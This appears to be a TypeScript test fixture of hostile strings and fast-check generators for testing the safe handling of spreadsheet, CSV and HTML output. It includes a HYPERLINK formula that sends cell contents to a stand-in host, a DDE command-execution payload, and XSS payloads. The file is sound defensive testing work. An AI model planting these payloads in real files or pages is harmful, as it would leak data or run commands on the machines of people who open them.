import fc from "fast-check";

/** Text that has broken into spreadsheets, pages and parsers before. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://example.invalid/?"&A1,"click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "   =1+1",
  "fine first line\n=1+1",
  "fine\r\n   +1",
  "a;=1+1",
  "a\t=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "\u202e=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\u00a0=1+1",
  '"',
  '""',
  'say "no"',
  '",=1+1,"',
  '"\r\n=1+1\r\n"',
  ",",
  ",,,",
  "a,b",
  "\r\n",
  "\n",
  "\r",
  "'",
  "'=1+1",
  "<img src=x onerror=alert(1)>",
  "</td></table><script>alert(1)</script>",
  "&lt;b&gt;",
  "__proto__",
  "constructor",
  "_x0041_",
  "\u0000",
  "\u0007bell",
  "\ud800",
  "\u202eright to left",
  "\u05e9\u05dc\u05d5\u05dd",
  "1e5",
  "0012",
  "1/2",
  "TRUE",
  "#N/A",
];

/** Ten thousand characters. */
export const LONG: readonly string[] = ["=".repeat(10_000), `x${"\n=1".repeat(3333)}`];

/** Any text at all, with what is dangerous at its start, in its middle and in pieces. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc
    .array(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", " ", ",", ";", '"', "'", "\uff1d", "\u202e", "a", "1", "|"), {
      maxLength: 14,
    })
    .map((parts) => parts.join("")),
  fc.tuple(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 20 })).map(([one, other]) => other + one),
);
